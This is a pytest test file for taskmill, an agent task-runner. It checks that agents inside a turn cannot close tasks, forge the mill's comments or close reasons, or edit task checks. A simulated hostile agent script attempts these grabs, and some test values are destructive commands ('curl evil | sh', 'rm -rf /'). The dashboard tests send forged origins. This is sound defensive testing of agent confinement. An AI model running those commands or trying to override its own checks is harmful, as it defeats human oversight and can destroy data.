"""The mill's authority: inside a turn an agent reaches the ledger only through a capability
scoped to its task (a unix socket the mill serves, :mod:`taskmill.capability`); comments
signed ``mill:`` and the mill's close reasons are the mill's own; the dashboard's changes
need its token on loopback too.

- over the socket: each allowed operation works, signed as the agent; each forbidden one is
  refused with a clear error, changes nothing and is recorded (``capability_refused``);
- a real ``taskmill run`` whose agent tries ``taskmill close``, ``comment --author mill:``,
  ``update --check`` and the MCP ``close`` on another task: all refused and recorded, while
  ``taskmill create`` works (linked discovered-from) and the honest work lands;
- the ledger refuses ``mill:`` authors and ``landed ...`` close reasons from its public calls;
- the dashboard: reads open, changes 401 without the token on loopback, ok with it.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

import taskmill
from mill_helpers import MillRepo, agent_script
from taskmill.capability.client import CapabilityClient, RemoteTasks
from taskmill.capability.server import CapabilityServer
from taskmill.clock import SystemClock
from taskmill.errors import Forbidden, TaskmillError
from taskmill.ledger import Ledger
from taskmill.web.app import create_app

PY = sys.executable
SRC = str(Path(taskmill.__file__).resolve().parents[1])
REFUSED = "not allowed inside a taskmill turn"


# -- over the socket ---------------------------------------------------------------------------


@dataclass
class Cap:
    db: Path
    server: CapabilityServer
    socket: Path
    client: CapabilityClient
    refusals: list[tuple[str, str, str]]

    @property
    def tasks(self) -> RemoteTasks:
        return RemoteTasks(self.client)

    def ledger(self) -> Ledger:
        return Ledger.open(self.db, prefix="tm", actor="tester")

    def refused_ops(self) -> list[str]:
        with self.ledger() as led:
            return [e.data["op"] for e in led.events() if e.kind == "capability_refused"]

    def snapshot(self) -> dict[str, Any]:
        with self.ledger() as led:
            return {t.id: led.show(t.id).to_json(full=True) for t in led.list_tasks()}


@pytest.fixture
def cap(tmp_path: Path) -> Iterator[Cap]:
    db = tmp_path / "taskmill.db"
    with Ledger.open(db, prefix="tm", actor="tester") as led:
        led.create("the task being worked", task_id="tm-own", status="in_progress")
        led.create("another task", task_id="tm-other", notes="keep these")
        led.create("a closed epic", task_id="tm-done", status="closed")
    refusals: list[tuple[str, str, str]] = []
    # a directory deep enough that the socket's path is too long for a unix address
    deep = tmp_path / ("d" * 60) / ("e" * 60)
    server = CapabilityServer(deep / "cap", lambda: Ledger.open(db, prefix="tm",
                                                                  actor="mill:run1"),
                              on_refused=lambda s, op, m: refusals.append((s.task_id, op, m)))
    server.start()
    path = server.register("tm-own", "exec")
    client = CapabilityClient(path, timeout=30)
    try:
        yield Cap(db, server, path, client, refusals)
    finally:
        client.close()
        server.stop()


AGENT = "agent:exec/tm-own"


def test_the_socket_is_private_and_long_paths_work(cap: Cap) -> None:
    assert len(str(cap.socket)) > 108  # reached through /proc/self/fd
    assert stat.S_IMODE(cap.socket.stat().st_mode) == 0o600
    assert stat.S_IMODE(cap.socket.parent.stat().st_mode) == 0o700
    assert cap.client.call("hello")["task"] == "tm-own"


def test_reads_work(cap: Cap) -> None:
    tasks = cap.tasks
    assert tasks.show("tm-other").notes == "keep these"
    assert {t.id for t in tasks.list_tasks()} == {"tm-own", "tm-other", "tm-done"}
    assert [t.id for t in tasks.list_tasks(status="closed")] == ["tm-done"]
    assert [t.id for t in tasks.ready()] == ["tm-other"]
    assert tasks.blocked() == []
    with pytest.raises(TaskmillError) as missing:
        tasks.show("tm-nope")
    assert missing.value.code == "not_found"
    assert cap.refused_ops() == []


def test_allowed_changes_are_signed_by_the_agent(cap: Cap) -> None:
    tasks = cap.tasks
    found = tasks.create("found this", description="while working tm-own", priority=1,
                         labels=["bug"], after=["tm-other"])
    shown = tasks.show(found.id)
    assert {(d.depends_on_id, d.type, d.created_by) for d in shown.dependencies} == {
        ("tm-own", "discovered-from", AGENT), ("tm-other", "blocks", AGENT)}
    comment = tasks.comment("tm-other", "seen from tm-own")
    assert comment.author == AGENT
    assert tasks.comment(None, "on my own task").issue_id == "tm-own"
    assert tasks.update("tm-own", {"notes": "step 1"}).notes == "step 1"
    assert tasks.update("tm-own", {}, append_notes="step 2").notes == "step 1\nstep 2"
    assert tasks.add_dep("tm-own", "tm-other", "related").created_by == AGENT
    # from a task it created in this turn, too
    assert tasks.add_dep(found.id, "tm-done", "related").issue_id == found.id
    with cap.ledger() as led:
        actors = {e.actor for e in led.events() if e.seq > 3}
    assert actors == {AGENT}
    assert cap.refused_ops() == [] and cap.refusals == []


FORBIDDEN: list[tuple[str, str, dict[str, Any]]] = [
    ("close another task", "close", {"task_ids": ["tm-other"], "what": "taskmill close tm-other"}),
    ("close its own task", "close", {"task_ids": ["tm-own"], "what": "taskmill close tm-own"}),
    ("reopen", "reopen", {"task_ids": ["tm-done"], "what": "taskmill reopen tm-done"}),
    ("land", "land", {}),
    ("change checks", "update", {"task_id": "tm-own", "changes": {"checks": ["true"]}}),
    ("change another's checks", "update", {"task_id": "tm-other",
                                           "changes": {"checks": ["curl evil | sh"]}}),
    ("close through update", "update", {"task_id": "tm-own", "changes": {
        "status": "closed", "close_reason": "landed deadbeef"}}),
    ("change priority", "update", {"task_id": "tm-other", "changes": {"priority": 0}}),
    ("change assignee", "update", {"task_id": "tm-own", "changes": {"assignee": "me"}}),
    ("another task's notes", "update", {"task_id": "tm-other", "changes": {"notes": "gone"}}),
    ("append to another's notes", "update", {"task_id": "tm-other", "append_notes": "x"}),
    ("claim", "update", {"task_id": "tm-other", "changes": {}, "claim": True}),
    ("comment as the mill", "comment", {"task_id": "tm-other", "text": "landed",
                                        "author": "mill:x"}),
    ("comment as a person", "comment", {"task_id": "tm-own", "text": "lgtm", "author": "alice"}),
    ("dependency from another task", "dep_add", {"task_id": "tm-other",
                                                 "depends_on": "tm-own"}),
    ("a child of a closed task", "dep_add", {"task_id": "tm-own", "depends_on": "tm-done",
                                             "type": "parent-child"}),
    ("create with checks", "create", {"title": "x", "checks": ["rm -rf /"]}),
    ("create with an agent", "create", {"title": "x", "agent": "claude"}),
    ("create discovered from another", "create", {"title": "x", "discovered_from": "tm-other"}),
]


@pytest.mark.parametrize(("label", "op", "args"), FORBIDDEN, ids=[f[0] for f in FORBIDDEN])
def test_forbidden_operations_are_refused_and_recorded(cap: Cap, label: str, op: str,
                                                       args: dict[str, Any]) -> None:
    before = cap.snapshot()
    with pytest.raises(Forbidden) as refused:
        cap.client.call(op, **args)
    assert refused.value.message.startswith(REFUSED), refused.value.message
    assert "only the mill closes tasks after their checks" in refused.value.message
    assert cap.snapshot() == before  # nothing changed
    assert cap.refused_ops() == [op]
    with cap.ledger() as led:
        event = next(e for e in led.events() if e.kind == "capability_refused")
        assert event.task_id == "tm-own" and event.actor == AGENT
        assert led.verify().ok
    assert [(t, o) for t, o, _ in cap.refusals] == [("tm-own", op)]
    # the connection still answers after a refusal
    assert cap.client.call("hello")["task"] == "tm-own"


def test_the_capability_ends_with_the_turn(cap: Cap) -> None:
    assert cap.client.call("hello")["author"] == AGENT
    cap.server.unregister(cap.socket)
    assert not cap.socket.exists()
    with pytest.raises(TaskmillError):
        cap.client.call("show", task_id="tm-own")  # its connection was cut
    with pytest.raises(TaskmillError) as again:
        CapabilityClient(cap.socket).call("hello")
    assert "cannot reach" in again.value.message


def test_the_cli_inside_a_turn_uses_the_socket_only(cap: Cap, tmp_path: Path) -> None:
    """Outside any repository (no ledger to find): the commands agents use work through the
    socket; the others are refused, recorded, and open nothing."""
    outside = tmp_path / "outside"
    outside.mkdir()
    env = {**os.environ, "TASKMILL_SOCKET": str(cap.socket), "TASKMILL_TASK_ID": "tm-own",
           "PYTHONPATH": SRC}
    env.pop("TASKMILL_DIR", None)

    def tm(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([PY, "-m", "taskmill", *args], cwd=outside, env=env, text=True,
                              capture_output=True, timeout=60, check=False)

    shown = tm("show", "tm-other", "--json")
    assert shown.returncode == 0, shown.stderr
    assert json.loads(shown.stdout)["notes"] == "keep these"
    assert "tm-other" in tm("list").stdout
    assert tm("ready", "--json").returncode == 0
    assert tm("blocked").returncode == 0
    made = tm("create", "found this", "--json")
    assert made.returncode == 0, made.stderr
    new_id = json.loads(made.stdout)["id"]
    assert tm("comment", "tm-other", "a note").returncode == 0
    assert tm("update", "tm-own", "--append-notes", "progress").returncode == 0
    assert tm("dep", "add", new_id, "tm-other").returncode == 0
    refused = {
        "close": tm("close", "tm-other"),
        "comment": tm("comment", "tm-other", "x", "--author", "mill:x"),
        "update": tm("update", "tm-other", "--check", "evil"),
        "reopen": tm("reopen", "tm-done"),
        "dep rm": tm("dep", "rm", new_id, "tm-other"),
        "verify": tm("verify"),
        "run": tm("run", "--agent-cmd", "true"),
        "init": tm("init"),
    }
    for name, proc in refused.items():
        assert proc.returncode != 0, name
        assert REFUSED in proc.stderr, (name, proc.stderr)
    assert "taskmill close tm-other" in refused["close"].stderr
    assert "only the mill closes tasks after their checks" in refused["close"].stderr
    as_json = tm("close", "tm-other", "--json")
    assert json.loads(as_json.stderr)["error"]["code"] == "forbidden"
    assert cap.refused_ops() == ["close", "comment", "update", "reopen", "dep rm", "verify",
                                 "run", "init", "close"]
    assert not (outside / ".taskmill").exists()
    with cap.ledger() as led:
        assert led.show(new_id).dependencies[0].depends_on_id in ("tm-own", "tm-other")
        assert led.get("tm-other").checks is None
        assert led.get("tm-own").notes == "progress"


# -- the ledger: the mill's words are the mill's ---------------------------------------------


def test_the_ledger_refuses_mill_authors_and_close_reasons(ledger: Ledger) -> None:
    task = ledger.create("a task")
    for author in ("mill:abc", " MILL:x"):
        with pytest.raises(Forbidden, match="the mill's own"):
            ledger.comment(task.id, "landed it", author=author)
    ledger.actor = "mill:forged"
    with pytest.raises(Forbidden):
        ledger.comment(task.id, "as the default actor")
    ledger.actor = "tester"
    for reason in ("landed deadbeef", "Landed: abc", "already satisfied at 123", "landed"):
        with pytest.raises(Forbidden, match="mill's own"):
            ledger.close(task.id, reason)
        with pytest.raises(Forbidden):
            ledger.close_many([task.id], reason)
        with pytest.raises(Forbidden):
            ledger.update(task.id, {"status": "closed", "close_reason": reason})
    assert ledger.get(task.id).status == "open"
    assert ledger.comment(task.id, "fine", author="mill-worker").author == "mill-worker"
    assert ledger.close(task.id, "landing page done").close_reason == "landing page done"
    ledger.reopen(task.id)
    # the mill's own code path
    assert ledger.comment(task.id, "x", author="mill:run1", system=True).author == "mill:run1"
    assert ledger.close(task.id, "landed abc123", system=True).close_reason == "landed abc123"


# -- a real run: the agent tries to take authority --------------------------------------------

HOSTILE = '''
import asyncio
SRC = {src!r}
TM_ENV = {{**os.environ, "PYTHONPATH": SRC}}
results = {{}}


def tm(name, *args):
    proc = subprocess.run([sys.executable, "-m", "taskmill", *args], capture_output=True,
                          text=True, env=TM_ENV, cwd=WT)
    results[name] = [proc.returncode, proc.stdout, proc.stderr]


tm("close", "close", "tm-b")
tm("comment", "comment", "tm-b", "landed it", "--author", "mill:x")
tm("update", "update", "tm-b", "--check", "evil")
tm("create", "create", "found this", "--json")
tm("db", "list", "--json")


async def mcp_close():
    from mcp.client.session import ClientSession
    from mcp.client.stdio import StdioServerParameters, stdio_client
    params = StdioServerParameters(command=sys.executable, args=["-m", "taskmill", "mcp"],
                                   cwd=str(WT), env=TM_ENV)
    async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
        await session.initialize()
        result = await session.call_tool("close", {{"task_id": "tm-b"}})
        text = "".join(getattr(c, "text", "") for c in result.content)
        results["mcp_close"] = [result.is_error, text]


asyncio.run(mcp_close())
save("results.json", json.dumps(results))
(WT / "work.txt").write_text("honest work\\n")
'''


def test_a_hostile_agent_cannot_take_the_mills_authority(tmp_path: Path) -> None:
    repo = MillRepo(tmp_path)
    repo.create("tm-a", "the task")
    repo.create("tm-b", "someone else's task")
    cmd = agent_script(tmp_path / "agent.py", HOSTILE.format(src=SRC), spy=repo.spy)
    result = repo.run("--agent-cmd", cmd, "--only", "tm-a", timeout=120)
    assert result.returncode == 0, result.describe()
    results = json.loads((repo.spy / "results.json").read_text())
    for name in ("close", "comment", "update"):
        code, _, err = results[name]
        assert code != 0 and REFUSED in err, (name, results[name])
    is_error, text = results["mcp_close"]
    assert is_error and REFUSED in text, results["mcp_close"]
    code, out, err = results["create"]
    assert code == 0, err
    found = json.loads(out)["id"]
    code, out, err = results["db"]
    assert code == 0, err
    # the turn had the socket, not the ledger's directory
    env = json.loads((repo.spy / "env-tm-a-1.json").read_text())
    assert "TASKMILL_SOCKET" in env and "TASKMILL_DIR" not in env
    assert not Path(env["TASKMILL_SOCKET"]).exists()  # gone with the turn
    assert list((repo.root / ".taskmill" / "run" / "cap").iterdir()) == []  # and the run
    other = repo.task("tm-b")
    assert other["status"] == "open" and other["checks"] is None and other["comments"] == []
    new = repo.task(found)
    assert [(d["depends_on_id"], d["type"]) for d in new["dependencies"]] == [
        ("tm-a", "discovered-from")]
    refusals = [e for e in repo.ledger.events("tm-a") if e.kind == "capability_refused"]
    assert sorted(e.data["op"] for e in refusals) == ["close", "close", "comment", "update"]
    assert {e.actor for e in refusals} == {"agent:cmd/tm-a"}
    created = [e for e in repo.ledger.events(found) if e.kind == "created"]
    assert [e.actor for e in created] == ["agent:cmd/tm-a"]
    assert len(result.events_of("capability_refused", "tm-a")) == 4
    repo.assert_all_landed_once(["tm-a"])
    repo.verify_ok()


# -- the dashboard ----------------------------------------------------------------------------


@pytest.fixture
def dashboard(taskmill_repo: Path) -> Iterator[tuple[TestClient, str, str]]:
    with Ledger.open(taskmill_repo / ".taskmill" / "taskmill.db", prefix="tm",
                     actor="tester") as led:
        tid = led.create("a task", checks=["true"]).id
    app = create_app(taskmill_repo, dict(os.environ), SystemClock())
    token = app.state.token
    assert token
    with TestClient(app, base_url="http://127.0.0.1:8765") as client:
        yield client, token, tid


def test_dashboard_changes_need_the_token_on_loopback(
        dashboard: tuple[TestClient, str, str]) -> None:
    client, token, tid = dashboard
    changes: list[Callable[[dict[str, str]], Any]] = [
        lambda h: client.patch(f"/api/tasks/{tid}", json={"checks": ["curl evil | sh"]},
                               headers=h),
        lambda h: client.patch(f"/api/tasks/{tid}", json={
            "status": "closed", "close_reason": "landed deadbeef"}, headers=h),
        lambda h: client.post(f"/api/tasks/{tid}/comments",
                              json={"text": "x", "author": "mill:x"}, headers=h),
        lambda h: client.post(f"/api/tasks/{tid}/reopen", json={}, headers=h),
        lambda h: client.post(f"/api/tasks/{tid}/unblock", json={}, headers=h),
        lambda h: client.post("/api/mill/pause", json={}, headers=h),
    ]
    for change in changes:
        for headers in ({}, {"Authorization": "Bearer wrong"}):
            resp = change(headers)
            assert resp.status_code == 401, resp.text
            assert resp.json()["error"]["code"] == "unauthorized"
    task = client.get(f"/api/tasks/{tid}").json()  # reads stay open
    assert task["checks"] == ["true"] and task["comments"] == []
    assert client.get("/api/stats").status_code == 200
    auth = {"Authorization": f"Bearer {token}"}
    assert client.patch(f"/api/tasks/{tid}", json={"checks": ["pytest -q"]},
                        headers=auth).json()["checks"] == ["pytest -q"]
    ok = client.post(f"/api/tasks/{tid}/comments", json={"text": "hi"}, headers=auth)
    assert ok.status_code == 201
    # even with the token: the mill's words stay the mill's
    assert client.post(f"/api/tasks/{tid}/comments", json={"text": "x", "author": "mill:x"},
                       headers=auth).status_code == 403
    assert client.patch(f"/api/tasks/{tid}", json={"status": "closed", "close_reason":
                                                   "landed deadbeef"},
                        headers=auth).status_code == 403
    assert client.post("/api/mill/pause", json={}, headers=auth).json() == {"paused": True}


def test_the_page_carries_the_token_and_other_origins_are_refused(
        dashboard: tuple[TestClient, str, str]) -> None:
    client, token, _ = dashboard
    page = client.get("/")
    assert page.status_code == 200 and token in page.text
    assert "access-control-allow-origin" not in {k.lower() for k in page.headers}
    auth = {"Authorization": f"Bearer {token}"}
    evil = client.post("/api/mill/pause", json={},
                       headers={**auth, "Origin": "http://evil.example"})
    assert evil.status_code == 403
    rebound = client.get("/", headers={"Host": "evil.example:8765"})
    assert rebound.status_code == 403 and token not in rebound.text
